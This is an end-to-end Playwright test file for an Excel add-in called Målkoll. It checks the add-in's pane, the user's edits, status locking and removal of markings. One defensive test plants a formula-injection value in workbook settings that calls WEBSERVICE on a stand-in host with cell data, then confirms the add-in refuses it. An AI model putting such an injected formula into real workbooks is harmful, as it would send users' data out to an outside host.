/**
 * End to end in Chromium: the user's edits between Målkoll's actions, through the real pane and the fake Excel.
 * Ordinary edits never cost the user a cell; the pane says what was left alone, what is live and what is locked;
 * Ta bort offers its choices and removes exactly Målkoll's.
 */
import type { Page } from "playwright-core";
import { lasCsv, lasRubriker } from "../helpers/csv";
import { anvandare, cell, oppna, miljoForFilen, type Miljo } from "./harness";

let miljo: Miljo;
miljoForFilen((m) => (miljo = m));

const BLAD = "Mål 2020";

function indikatorer(): unknown[][] {
  const rubriker = lasRubriker("indikatorer-2020.csv").filter((r) => r !== "forvantad_status");
  return [rubriker, ...lasCsv("indikatorer-2020.csv").map((r) => rubriker.map((k) => r[k]))];
}

const anvandarceller = (sida: Page) =>
  sida.evaluate(() => (window as any).__malkoll.anvandarceller()) as Promise<Record<string, unknown>>;
const rester = (sida: Page) => sida.evaluate(() => (window as any).__malkoll.tillaggsrester()) as Promise<string[]>;
const meddelande = (sida: Page) => sida.locator("[aria-live=polite]").innerText();

async function lasIn(sida: Page) {
  await sida.getByRole("button", { name: "Läs in" }).click();
  await sida.getByText(/^Tabell: /).waitFor();
}

async function farglagg(sida: Page) {
  await sida.getByRole("button", { name: "Färgmarkera", exact: true }).click();
  await sida.getByText("Målen är färgmarkerade").waitFor();
}

describe("the pane among the user's edits, in Chromium", () => {
  jest.setTimeout(60000);

  it("keeps typed statuses, tells live from locked, and removes only Målkoll's after an inserted column", async () => {
    const { sida, fel } = await oppna(miljo, {
      blad: { [BLAD]: indikatorer() },
      markerat: { blad: BLAD, adress: "C5" },
    });
    await lasIn(sida);
    await farglagg(sida);
    await expect(meddelande(sida)).resolves.toContain(
      "Alla 37 statusar i H2:I27 är levande KPI-formler som följer ändringar i tabellen.",
    );

    // The controller overrides one status, and colours again: the typed status stays and is named.
    await anvandare(sida, "skriv", BLAD, "H10", "Delvis uppfyllt");
    await lasIn(sida);
    await farglagg(sida);
    await expect(meddelande(sida)).resolves.toContain(
      "1 status i H är skriven för hand och behölls; den räknas i målens bedömning.",
    );
    await expect(cell(sida, BLAD, "H10")).resolves.toEqual({ formel: "Delvis uppfyllt", varde: "Delvis uppfyllt" });

    await sida.getByRole("button", { name: "Lås statusar" }).click();
    await sida.getByText("Statusarna är låsta").waitFor();
    await expect(meddelande(sida)).resolves.toMatch(/låsta värden/);
    await expect(cell(sida, BLAD, "H13")).resolves.toEqual({ formel: '="Delvis uppfyllt"', varde: "Delvis uppfyllt" });

    // A new year column, then Ta bort: the user's table (shifted) is intact and nothing of Målkoll's is left.
    await anvandare(sida, "infogaKolumner", BLAD, "D");
    await anvandare(sida, "skriv", BLAD, "D1", "2017");
    const fore = await anvandarceller(sida);
    await sida.getByRole("button", { name: "Ta bort färgmarkering" }).click();
    await sida.getByText("Färgmarkeringen är borttagen").waitFor();
    await expect(anvandarceller(sida)).resolves.toEqual(fore);
    await expect(rester(sida)).resolves.toEqual([]);
    expect(fel).toEqual([]);
    await sida.close();
  });

  it("offers Ta bort's choices for several tables and a summary sheet, and says what it removed and left", async () => {
    const rader = indikatorer();
    const { sida } = await oppna(miljo, {
      blad: { [BLAD]: [...rader, [], [], [], [], [], [], ...rader] },
      markerat: { blad: BLAD, adress: "C5" },
    });
    await lasIn(sida);
    await farglagg(sida);
    await sida.getByRole("button", { name: "Skapa sammanställning" }).click();
    await sida.getByText("Sammanställningen är klar").waitFor();
    await anvandare(sida, "markera", BLAD, "C40");
    await lasIn(sida);
    await farglagg(sida);

    await sida.getByRole("button", { name: "Ta bort färgmarkering" }).click();
    const val = sida.getByRole("group", { name: "Ta bort färgmarkering" });
    await val.getByRole("radio", { name: /Bara den inlästa tabellen \(A34:G60 på Mål 2020\)/ }).check();
    await val.getByRole("checkbox", { name: /sammanställningsbladen \(Måluppfyllelse\)/ }).check();
    await val.getByRole("button", { name: "Ta bort" }).click();
    await sida.getByText("Färgmarkeringen är borttagen").waitFor();
    await expect(meddelande(sida)).resolves.toMatch(/Borttaget för tabellen A34:G60 på bladet Mål 2020/);
    await expect(meddelande(sida)).resolves.toMatch(/Bladet Måluppfyllelse togs bort/);
    // The first table is still marked.
    await expect(cell(sida, BLAD, "H10")).resolves.toMatchObject({ varde: "Ej uppfyllt" });
    await sida.close();
  });

  it("warns about settings in a received workbook and writes no formula from them", async () => {
    const { sida } = await oppna(miljo, {
      blad: { [BLAD]: indikatorer() },
      markerat: { blad: BLAD, adress: "A1" },
      installningar: { "malkoll.installningar": { delvisAndel: '0.1,WEBSERVICE("https://example.invalid/"&B2)' } },
    });
    await sida.getByText("Inställningarna i arbetsboken").waitFor();
    await lasIn(sida);
    await farglagg(sida);
    await expect(cell(sida, BLAD, "H10")).resolves.toMatchObject({
      formel: '=KPI.MALUPPFYLLELSE(F10,G10,"lägre är bättre",,E10)',
    });
    await sida.close();
  });
});
